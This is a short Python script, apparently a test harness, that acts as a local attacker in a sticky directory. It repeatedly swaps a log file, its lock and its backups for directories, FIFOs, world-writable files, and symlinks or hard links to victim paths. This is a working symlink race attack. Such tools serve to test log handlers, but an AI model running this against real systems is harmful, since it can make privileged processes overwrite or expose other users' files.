"""Somebody who may make files beside a log in a sticky directory, and has until stdin ends. Run as a program.

attacker.py DIRECTORY VICTIM...   puts every kind of thing in the place of log, lock and backups, over and over
"""

from __future__ import annotations

import contextlib
import itertools
import os
import random
import select
import sys
from collections.abc import Callable
from pathlib import Path

NAMES = ("cni.log", "cni.lock", "cni.log.1", "cni.log.2", "cni.log.3", "cni.log.4")


def touch(path: Path) -> None:
    path.touch(mode=0o666)


def attack(folder: Path, victims: list[Path]) -> None:
    tricks: list[Callable[[Path], object]] = [Path.mkdir, os.mkfifo, touch]
    for victim in victims:
        tricks += [lambda path, victim=victim: path.symlink_to(victim)]  # type: ignore[misc]
        tricks += [lambda path, victim=victim: path.hardlink_to(victim)]  # type: ignore[misc]
    for name, trick in zip(itertools.cycle(NAMES), iter(lambda: random.choice(tricks), None)):
        path = folder / name
        with contextlib.suppress(OSError):  # root's, perhaps
            path.rmdir()
        with contextlib.suppress(OSError):
            path.unlink()
        with contextlib.suppress(OSError):
            trick(path)
        with contextlib.suppress(OSError):
            path.rename(folder / random.choice(NAMES))
        if select.select([sys.stdin], [], [], 0)[0]:
            return


if __name__ == "__main__":
    os.umask(0)
    print("ready", flush=True)
    attack(Path(sys.argv[1]), [Path(name) for name in sys.argv[2:]])
